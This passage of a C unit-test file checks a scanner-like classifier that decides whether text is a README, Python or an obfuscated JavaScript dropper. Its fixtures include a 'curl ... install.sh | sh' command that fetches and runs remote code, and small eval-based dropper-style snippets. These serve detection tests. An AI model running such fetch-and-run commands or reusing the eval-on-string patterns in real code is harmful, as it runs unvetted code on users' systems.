                "# tool - a package manager\n\n### Installation\n\n**`tool`** comes bundled "
                "with [**`node`**](https://example.org/), & most distributions, by default.\n\n"
                "```bash\ncurl -qL https://example.org/install.sh | sh\n```\n\n### Links\n\n"
                "* [**Docs**](https://example.org/docs/) - Official docs & how-tos for all things "
                "**tool**\n* [**Bugs**](https://example.org/issues) - Search or submit bugs "
                "against the program\n* [**Status**](https://status.example.org/) - Monitor "
                "the current status & see incident reports\n\nAdding it to your ~/.bashrc or "
                "~/.zshrc will make the completions available everywhere:\n\n```bash\ntool "
                "completion >> ~/.bashrc\n```\n";
        assert_int_equal(text_kind_of((const uint8_t *)md2, strlen(md2), "README.md"),
                         TEXT_KIND_DOCUMENT);
        assert_string_equal(text_kind_name(TEXT_KIND_DOCUMENT), "document");
}

/* Python by its syntax (issue 16): numpy's f2py builds lambdas as strings and evals them, reads
 * dicts by string keys and glues literals, which the JavaScript shape rules took for an
 * obfuscated dropper. JavaScript that names Python's words, or hides Python where JavaScript
 * skips it, is not Python. */
static void test_python(void **state)
{
        /* numpy/f2py/auxfuncs.py (numpy/numpy@1f90bbb55e65, BSD-3-Clause), lines 1-18, 649-666 */
        const char *numpy =
                "\"\"\"\nAuxiliary functions for f2py2e.\n\nCopyright 1999 -- 2011 Pearu "
                "Peterson all rights reserved.\n\"\"\"\nimport pprint\nimport re\nimport sys\n"
                "import types\nfrom functools import reduce\n\nfrom . import __version__, "
                "cfuncs\nfrom .cfuncs import errmess\n\n"
                "def l_and(*f):\n    l1, l2 = 'lambda v', []\n    for i in range(len(f)):\n"
                "        l1 = f'{l1},f{i}=f[{i}]'\n        l2.append(f'f{i}(v)')\n"
                "    return eval(f\"{l1}:{' and '.join(l2)}\")\n\n\n"
                "def l_not(f):\n    return eval('lambda v,f=f:not f(v)')\n";
        const char *script = "#!/usr/bin/env python3\n# a tool\nimport os\n\nclass Tool(object):\n"
                             "    def run(self, args):\n        if args:\n"
                             "            return os.environ['HOME']\n";
        /* a dropper whose strings and comments talk Python */
        const char *js = "var s = 'import os';\n// def f(x):\nfunction run(p) {\n"
                         "  if (p) { eval(p + 'class A:'); }\n}\nrun(\"from x import y\");\n";
        /* a #! line node skips, then JavaScript that keeps Python in a comment */
        const char *bang = "#!/usr/bin/python\nvar a = 1;\n/*\nimport os\ndef f(x):\n"
                           "    return x\nclass A:\n*/\neval(a);\n";
        /* Python after an opening comment, but its lines inside a block comment */
        const char *hidden = "# x\n/* def a(x):\ndef b(x):\ndef c(x):\ndef d(x):\n*/\n"
                             "eval(unescape('%61'));\n";
        /* an ES module */
        const char *esm = "import fs from 'fs';\nimport { x } from \"./x.js\";\n"
                          "export function f() {\n  return eval(x);\n}\n";

        (void)state;
        assert_true(text_is_python((const uint8_t *)numpy, strlen(numpy)));
        assert_true(text_is_python((const uint8_t *)script, strlen(script)));
        assert_false(text_is_python((const uint8_t *)js, strlen(js)));
        assert_false(text_is_python((const uint8_t *)bang, strlen(bang)));
        assert_false(text_is_python((const uint8_t *)hidden, strlen(hidden)));
        assert_false(text_is_python((const uint8_t *)esm, strlen(esm)));
        assert_false(text_is_python((const uint8_t *)"", 0));
        /* lines that end where a statement's next word would be (exact-size copies: a read
         * past them is ASan's) */
        static const char *const cut[] = {"# x\nfrom ", "# x\nfrom ...", "# x\nimport ",
                                          "# x\ndef ",  "# x\nclass ",   "# x\nfrom .",
                                          "#\n\"\"\"",  "from a import"};
        for (size_t i = 0; i < sizeof(cut) / sizeof(cut[0]); i++) {
                size_t n = strlen(cut[i]);
                uint8_t *copy = malloc(n);
                assert_non_null(copy);
                memcpy(copy, cut[i], n);
                assert_false(text_is_python(copy, n));
                free(copy);
        }
}

int main(void)
{
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_powershell),
                cmocka_unit_test(test_wsh_and_shell),
                cmocka_unit_test(test_php),
                cmocka_unit_test(test_php_literal_callee),
                cmocka_unit_test(test_php_long_vars),
                cmocka_unit_test(test_php_long_literal),
                cmocka_unit_test(test_php_escaped_quote_run),
                cmocka_unit_test(test_php_short_tag),
                cmocka_unit_test(test_php_decode_hostile),
                cmocka_unit_test(test_jscript_constants),
                cmocka_unit_test(test_jscript_hostile),
                cmocka_unit_test(test_jscript_octal),
                cmocka_unit_test(test_vbscript_strings),
                cmocka_unit_test(test_php_builders),
                cmocka_unit_test(test_jscript_named_folds),
                cmocka_unit_test(test_escaped_quotes_in_long_line),
                cmocka_unit_test(test_unchanged),
                cmocka_unit_test(test_powershell_char_codes),
                cmocka_unit_test(test_kinds),
                cmocka_unit_test(test_python),
        };
        return cmocka_run_group_tests(tests, NULL, NULL);
}
